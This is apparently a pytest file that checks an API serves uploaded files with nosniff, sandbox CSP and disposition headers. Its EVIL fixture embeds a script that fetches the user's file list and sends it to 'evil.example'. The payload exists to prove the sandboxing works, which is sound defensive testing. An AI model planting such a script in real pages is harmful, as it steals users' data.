"""User files served back from our origin: nosniff everywhere, sandboxed unless PDF, PDFs inline."""

from __future__ import annotations

from pathlib import Path

import httpx

from calypso.api.file_headers import SANDBOX_POLICY, user_file_headers

EVIL = (
    b"<html><head><title>Harbour news</title></head><body><h1>Harbour news</h1>"
    b"<p>The harbour opens at six. The ferry leaves at seven and returns at nine every weekday.</p>"
    b"<script>fetch('/v1/files').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)</script>"
    b"</body></html>"
)


def _upload(http: httpx.Client, name: str, data: bytes, content_type: str) -> str:
    response = http.post("/v1/files", files={"file": (name, data, content_type)}, data={"purpose": "assistants"})
    assert response.status_code == 200, response.text
    return response.json()["id"]


def test_stored_html_is_served_sandboxed_with_nosniff(api: httpx.Client) -> None:
    file_id = _upload(api, "news.html", EVIL, "text/html")
    response = api.get(f"/v1/files/{file_id}/content")
    assert response.status_code == 200 and response.content == EVIL
    assert response.headers["content-type"].startswith("text/html")
    assert response.headers["x-content-type-options"] == "nosniff"
    policy = response.headers["content-security-policy"]
    assert policy.split(";")[0] == "sandbox" and "allow-scripts" not in policy and "default-src 'none'" in policy
    assert response.headers["referrer-policy"] == "no-referrer"


def test_html_named_pdf_is_still_sandboxed(api: httpx.Client) -> None:
    # The stored (detected) type decides, not the name the uploader chose.
    file_id = _upload(api, "invoice.pdf", EVIL, "text/html")
    response = api.get(f"/v1/files/{file_id}/content")
    assert response.headers["content-type"].startswith("text/html")
    assert response.headers["content-security-policy"] == SANDBOX_POLICY


def test_pdf_still_opens_inline(api: httpx.Client, data_dir: Path) -> None:
    pdf = (data_dir / "ingestion-docs/pdf/scotus-transcript-p1.pdf").read_bytes()
    file_id = _upload(api, "transcript.pdf", pdf, "application/pdf")
    response = api.get(f"/v1/files/{file_id}/content")
    assert response.status_code == 200 and response.content == pdf
    assert response.headers["content-type"] == "application/pdf"
    assert response.headers["content-disposition"] == "inline; filename*=UTF-8''transcript.pdf"
    assert response.headers["x-content-type-options"] == "nosniff"
    # Chrome and Safari show a blank page for a sandboxed PDF.
    assert "content-security-policy" not in response.headers


def test_text_is_inline_and_docx_is_a_download() -> None:
    text = user_file_headers("https://example.com/notes/a b.txt", "text/plain; charset=utf-8")
    assert text["Content-Disposition"] == "inline; filename*=UTF-8''a%20b.txt"
    assert text["Content-Security-Policy"] == SANDBOX_POLICY
    docx = user_file_headers("memo.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    assert docx["Content-Disposition"].startswith("attachment;") and docx["X-Content-Type-Options"] == "nosniff"
